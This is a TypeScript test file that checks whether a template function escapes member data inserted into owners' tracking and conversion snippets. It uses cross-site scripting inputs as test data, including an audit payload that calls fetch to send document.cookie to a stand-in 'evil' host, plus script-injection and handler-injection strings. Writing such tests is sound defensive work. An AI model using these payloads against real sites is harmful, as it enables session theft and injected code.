import { describe, expect, it } from 'vitest';
import { escapeHtml, fillTemplate, type TemplateMember } from '../../src/core/texts/template';
import { EMAIL_PAYLOAD, PAYLOADS, URL_PAYLOAD } from '../browser/security-payloads';

/**
 * The owner's tracking and conversion snippets put placeholders in script strings, template literals, comments,
 * code, attributes (quoted, unquoted, handlers, URLs, style) and text. A member's data must reach each place as
 * that data and never end it: the audit's names (`\` then `-fetch(…)});//`) broke out of a JS string when
 * values were only HTML-escaped, and a space got through an unquoted attribute. In a script's strings (and a
 * handler's) the data arrives HTML-escaped, as the spec's placeholders are: snippets hand such strings to HTML
 * sinks (innerHTML), where raw markup would run.
 */
/** What a script's string holds: the value, HTML-escaped (a number in code stays a number). */
const js = (v: unknown) => (typeof v === 'number' ? v : escapeHtml(String(v)));
const AUDIT = { firstName: '\\', lastName: "-fetch('//evil/?'+document.cookie)});//" };
const HOSTILE = [
  ...PAYLOADS,
  URL_PAYLOAD,
  EMAIL_PAYLOAD,
  'x onerror=__xss(40) ',
  '\\\'"`${__xss(41)}</script><script>__xss(41)</script>',
  'a\nb\u2028c\r\n-->',
  '\\',
];

/** A tracking snippet in the shapes owners paste: a data layer push, a pixel image and a link. */
const TRACKING =
  "<script>push({first:'{{firstName}}',last:'{{lastName}}',name:\"{{name}}\",email:`{{email}}`,id:{{id}}});</script>" +
  '<img src=/pixel.gif alt={{firstName}} title="{{lastName}}" data-n=\'{{name}}\'>' +
  '<a href="/welcome?e={{email}}" onclick="push(\'{{firstName}}\')">{{name}}</a>';
/** A conversion snippet: placeholders in comments, bare code, a template literal's substitution, CSS. */
const CONVERSION =
  '<script>/* {{name}} */ var who = {{firstName}}; // {{lastName}}\n' +
  'push({who: who, tpl: `Hi ${"{{lastName}}"} {{email}}`, id: {{id}}}); var re = /x{{name}}/;</script>' +
  '<style>.x::after{content:"{{name}}"}</style><div style="--n:\'{{firstName}}\'" class={{lastName}}>{{email}}</div>';

interface Ran {
  pushed: unknown[];
  executed: number;
  box: HTMLElement;
}

/** Parses the filled snippet (no script runs on its own), then runs each script and click handler with stubs. */
function run(html: string): Ran {
  const box = document.createElement('div');
  box.innerHTML = html;
  const pushed: unknown[] = [];
  let executed = 0;
  const evil = () => void executed++;
  const globals = { push: (v: unknown) => void pushed.push(v), __xss: evil, fetch: evil, alert: evil };
  const exec = (code: string) => new Function(...Object.keys(globals), code)(...Object.values(globals));
  for (const script of box.querySelectorAll('script')) exec(script.textContent ?? '');
  for (const el of box.querySelectorAll('[onclick]')) exec(el.getAttribute('onclick')!);
  return { pushed, executed, box };
}

const members: TemplateMember[] = [
  { id: 7, name: 'Ann', email: 'a@x.test', ...AUDIT },
  ...HOSTILE.map((p, i) => ({ id: i, name: p, firstName: p, lastName: p, email: p })),
  { id: '1);__xss(42);//', name: 'N', firstName: 'F', lastName: 'L', email: 'e' },
];

describe('tracking and conversion snippets with hostile member data in every placeholder', () => {
  for (const [i, m] of members.entries()) {
    it(`member ${i}: the tracking snippet's script, attributes and text hold the data and nothing else`, () => {
      const { pushed, executed, box } = run(fillTemplate(TRACKING, m));
      expect(executed).toBe(0);
      expect(pushed).toEqual([{ first: js(m.firstName), last: js(m.lastName), name: js(m.name), email: js(m.email), id: js(m.id) }, js(m.firstName)]);
      expect([...box.querySelectorAll('*')].map((e) => e.localName)).toEqual(['script', 'img', 'a']);
      const img = box.querySelector('img')!;
      expect(img.getAttributeNames()).toEqual(['src', 'alt', 'title', 'data-n']);
      expect([img.getAttribute('alt'), img.getAttribute('title'), img.getAttribute('data-n')]).toEqual([m.firstName, m.lastName, m.name]);
      const link = box.querySelector('a')!;
      expect(link.getAttributeNames()).toEqual(['href', 'onclick']);
      const href = link.getAttribute('href')!;
      expect(href).toMatch(/^\/welcome\?e=[A-Za-z0-9%]*$/);
      expect(decodeURIComponent(href.slice('/welcome?e='.length))).toBe(String(m.email));
      expect(link.textContent).toBe(m.name);
    });
    it(`member ${i}: the conversion snippet's comments, code, template literal and CSS hold the data and nothing else`, () => {
      const { pushed, executed, box } = run(fillTemplate(CONVERSION, m));
      expect(executed).toBe(0);
      expect(pushed).toEqual([{ who: js(m.firstName), tpl: `Hi ${js(m.lastName)} ${js(m.email)}`, id: js(m.id) }]);
      expect([...box.querySelectorAll('*')].map((e) => e.localName)).toEqual(['script', 'style', 'div']);
      // CSS escapes leave letters, digits, spaces and backslashes: nothing ends the string or the rule.
      expect(box.querySelector('style')!.textContent).toMatch(/^\.x::after\{content:"[A-Za-z0-9 \\]*"\}$/);
      const div = box.querySelector('div')!;
      expect(div.getAttributeNames()).toEqual(['style', 'class']);
      expect(div.getAttribute('style')).toMatch(/^--n:'[A-Za-z0-9 \\]*'$/);
      expect(div.getAttribute('class')).toBe(m.lastName);
      expect(div.textContent).toBe(m.email);
    });
  }

  it('a placeholder as a tag or attribute name gives letters and digits only', () => {
    const html = fillTemplate('<{{firstName}} {{lastName}}>', { firstName: 'img src=x onerror=__xss(1)', lastName: 'a onload=x' });
    expect(html).toBe('<imgsrcxonerrorxss1 aonloadx>');
  });

  it('a missing value is undefined in code, and empty when quoted', () => {
    expect(fillTemplate('<script>f({{id}}, \'{{name}}\', "x{{email}}")</script>', null)).toBe('<script>f(undefined, \'\', "xundefined")</script>');
  });
});
